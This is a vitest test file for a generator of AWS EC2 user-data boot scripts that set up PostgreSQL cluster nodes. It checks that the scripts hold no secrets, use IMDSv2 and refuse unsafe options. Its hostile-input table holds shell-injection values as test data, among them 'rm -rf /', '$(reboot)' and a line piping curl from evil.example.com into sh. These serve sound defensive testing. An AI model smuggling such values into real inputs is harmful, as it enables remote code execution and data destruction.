/**
 * The user data of an AWS node (src/providers/aws-userdata.ts): it holds no secret, refuses what could
 * become shell, is valid bash (and clean for shellcheck when it is installed), and starts the guard before
 * the agent. The node.yml it leads to is a valid, secure node config.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scriptFile as writeScript, expectCleanShell, refusalOf } from '../support/user-data.js';
import { afterAll, describe, expect, it } from 'vitest';
import { KeelError } from '../../src/errors.js';
import {
  awsNodeConfig,
  buildUserData,
  maxUserDataBytes,
  parseAwsNodeOptions,
  secretParameters,
  shellQuote,
  type AwsNodeOptionsInput,
} from '../../src/providers/aws-userdata.js';

const base: AwsNodeOptionsInput = {
  name: 'node1',
  cluster: 'main',
  region: 'eu-west-1',
  zone: 'eu-west-1a',
  etcdEndpoints: ['https://10.0.1.10:2379', 'https://10.0.2.10:2379', 'https://10.0.3.10:2379'],
  clusterCidrs: ['10.0.0.0/16'],
  keel: { kind: 'url', url: 'https://releases.example.com/keel/keel-0.1.0.tar.gz', sha256: 'ab'.repeat(32) },
  router: { rw: '0.0.0.0:5432', ro: '0.0.0.0:5433' },
};

/** What the boot would fetch: real-looking secrets that must never appear in the user data. */
const secrets = {
  superuserPassword: 'Sup3r-secret-postgres-pw-0001',
  rewindPassword: 'rewind-secret-pw-0002-xyz',
  appPassword: 'app-secret-pw-0003-abcdef',
  apiToken: 'api-token-0004-abcdefghijklmnopqrstuvwxyz0123',
};

const dir = mkdtempSync(join(tmpdir(), 'keel-userdata-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const scriptFile = (text: string): string => writeScript(dir, text);

const refusal = (input: unknown): KeelError => refusalOf(buildUserData, input);

describe('buildUserData', () => {
  const script = buildUserData(base);

  it('is a bash script that fits in EC2 user data', () => {
    expect(script.startsWith('#!/bin/bash\n')).toBe(true);
    expect(script).toContain('set -euo pipefail');
    expect(Buffer.byteLength(script)).toBeLessThan(maxUserDataBytes);
  });

  it('holds no secret, only the names of the SSM parameters', () => {
    // the options carry none, so no secret can reach the script: the values appear nowhere in it
    for (const value of Object.values(secrets)) expect(script).not.toContain(value);
    expect(script).not.toMatch(/BEGIN [A-Z ]*PRIVATE KEY/);
    for (const parameter of Object.values(secretParameters(parseAwsNodeOptions(base)))) expect(script).toContain(`'${parameter}'`);
    expect(script).toContain('aws ssm get-parameter --region "$keel_region" --with-decryption --name "$parameter"');
  });

  it('refuses a secret given as an option', () => {
    const err = refusal({ ...base, superuserPassword: secrets.superuserPassword });
    expect(err.code).toBe('KEEL_CONFIG_INVALID');
    expect(err.message).not.toContain(secrets.superuserPassword);
  });

  it('passes bash -n and shellcheck', () => {
    expectCleanShell(dir, script);
  });

  it('enables the guard, then the agent, then the router', () => {
    const guard = script.indexOf('systemctl enable --now "keel-guard@$keel_instance.service"');
    const agent = script.indexOf('systemctl enable --now "keel-agent@$keel_instance.service"');
    const router = script.indexOf('systemctl enable --now keel-router.service');
    expect(guard).toBeGreaterThan(0);
    expect(agent).toBeGreaterThan(guard);
    expect(router).toBeGreaterThan(agent);
    // the files are in place before any unit starts
    expect(script.indexOf('aws-boot.js" --options')).toBeLessThan(guard);
    expect(script.indexOf('fetch_secret "${secret_parameters[i]}"')).toBeLessThan(guard);
  });

  it('installs only what is missing, and keeps Debian from starting its own cluster', () => {
    expect(script).toContain("dpkg-query -W -f='${Status}'");
    expect(script).toMatch(/apt_install ca-certificates curl postgresql-15 postgresql-15-postgis-3/);
    expect(script).toContain('command -v aws >/dev/null || apt_install awscli');
    expect(script).toContain('create_main_cluster = false');
    expect(script).toContain('node_major');
  });

  it('reads the address through IMDSv2 (a session token first) unless a test host gives it', () => {
    expect(script).toContain('-X PUT -H \'X-aws-ec2-metadata-token-ttl-seconds: 300\' http://169.254.169.254/latest/api/token');
    expect(script).toContain('imds local-ipv4');
    expect(script).toContain('address="${KEEL_BOOT_ADDRESS:-}"');
    expect(script).toContain('secrets_dir="${KEEL_BOOT_SECRETS_DIR:-}"');
  });

  it('checks the tarball against its sha256', () => {
    expect(script).toContain(`keel_source_sha256='${'ab'.repeat(32)}'`);
    expect(script).toContain('sha256sum -c');
  });

  it('starts no router unit when the node runs none', () => {
    const { router: _router, ...withoutRouter } = base;
    const text = buildUserData(withoutRouter);
    expect(text).toContain('keel_router=0');
    expect(text).not.toContain('router.key');
  });
});

describe('hostile input is refused with KEEL_CONFIG_INVALID', () => {
  const hostile: [string, Record<string, unknown>][] = [
    ['a name with a quote', { name: "node1'; rm -rf / #" }],
    ['a name with a command substitution', { name: 'node$(reboot)' }],
    ['a cluster with a new line', { cluster: 'main\ncurl evil.example.com|sh' }],
    ['a zone with a backtick', { zone: 'eu-west-1a`id`' }],
    ['a zone with spaces', { zone: 'eu-west-1a; id' }],
    ['a region with a semicolon', { region: 'eu-west-1;id' }],
    ['a parameter prefix with a quote', { parameterPrefix: "/keel/main'$(id)'" }],
    ['a parameter prefix with a space', { parameterPrefix: '/keel/main x' }],
    ['a parameter prefix that is relative', { parameterPrefix: 'keel/main' }],
    ['a parameter prefix under /aws', { parameterPrefix: '/aws/reference/secretsmanager/x' }],
    ['an etcd endpoint with a quote', { etcdEndpoints: ["https://10.0.1.10:2379'"] }],
    ['an etcd endpoint over http', { etcdEndpoints: ['http://10.0.1.10:2379'] }],
    ['a URL with a dollar', { keel: { kind: 'url', url: 'https://example.com/$(id).tgz', sha256: 'ab'.repeat(32) } }],
    ['a URL over http', { keel: { kind: 'url', url: 'http://example.com/keel.tgz', sha256: 'ab'.repeat(32) } }],
    ['a URL without a checksum', { keel: { kind: 'url', url: 'https://example.com/keel.tgz' } }],
    ['an S3 URI with a semicolon', { keel: { kind: 's3', uri: 's3://bucket/keel.tgz;id' } }],
    ['a path with a space', { keel: { kind: 'path', path: '/opt/keel release' } }],
    ['a CIDR with text after it', { clusterCidrs: ['10.0.0.0/16 trust'] }],
    ['a router address with a quote', { router: { rw: "0.0.0.0:5432'", ro: '0.0.0.0:5433' } }],
    ['an unknown field', { extra: 'x' }],
  ];
  it.each(hostile)('%s', (_what, change) => {
    const err = refusal({ ...base, ...change });
    expect(err.code).toBe('KEEL_CONFIG_INVALID');
  });

  it('quotes a word so the shell reads it back unchanged', () => {
    const words = ["it's", '$(id)', '`id`', 'a b', '"x"', '\\', '; rm -rf /'];
    for (const word of words) {
      const echoed = execFileSync('bash', ['-c', `printf %s ${shellQuote(word)}`], { encoding: 'utf8' });
      expect(echoed).toBe(word);
    }
  });
});

describe('awsNodeConfig', () => {
  const options = parseAwsNodeOptions(base);

  it('is a secure node.yml: TLS, replication by certificate, the guard, the private address', () => {
    const config = awsNodeConfig(options, { address: '10.0.1.21', ...secrets });
    expect(config.name).toBe('node1');
    expect(config.zone).toBe('eu-west-1a');
    expect(config.tls).toEqual({ ca: '/etc/keel/tls/ca.crt', cert: '/etc/keel/tls/node.crt', key: '/etc/keel/tls/node.key' });
    expect(config.etcd.tls).toEqual(config.tls);
    expect(config.etcd.endpoints).toEqual(base.etcdEndpoints);
    expect(config.api).toMatchObject({ listen: '10.0.1.21:8008', connectAddress: '10.0.1.21:8008', token: secrets.apiToken });
    expect(config.postgres).toMatchObject({
      dataDir: '/var/lib/keel/postgres/data',
      listen: '10.0.1.21',
      connectAddress: '10.0.1.21:5432',
      replication: { username: 'replicator', cert: '/etc/keel/tls/replication.crt', key: '/etc/keel/tls/replication.key' },
      rewind: { username: 'keel_rewind', password: secrets.rewindPassword },
      app: { username: 'app', password: secrets.appPassword },
      hba: { cluster: ['10.0.0.0/16'], applications: ['10.0.0.0/16'] },
    });
    expect(config.postgres.replication.password).toBeUndefined();
    expect(config.guard).toEqual({ socket: '/var/lib/keel/guard.sock' });
  });

  it('puts every path under a test root', () => {
    const config = awsNodeConfig(options, { address: '10.0.1.21', ...secrets, root: '/tmp/host1' });
    expect(config.postgres.dataDir).toBe('/tmp/host1/var/lib/keel/postgres/data');
    expect(config.tls?.key).toBe('/tmp/host1/etc/keel/tls/node.key');
    expect(config.guard?.socket).toBe('/tmp/host1/var/lib/keel/guard.sock');
  });

  it('refuses an address that is not IPv4, and a short password without printing it', () => {
    expect(() => awsNodeConfig(options, { address: '10.0.1.21; id', ...secrets })).toThrow(/not an IPv4 address/);
    let message = '';
    try {
      awsNodeConfig(options, { address: '10.0.1.21', ...secrets, appPassword: 'short-pw' });
    } catch (err) {
      expect((err as KeelError).code).toBe('KEEL_CONFIG_INVALID');
      message = (err as KeelError).message;
    }
    expect(message).toContain('postgres.app.password');
    expect(message).not.toContain('short-pw');
  });
});
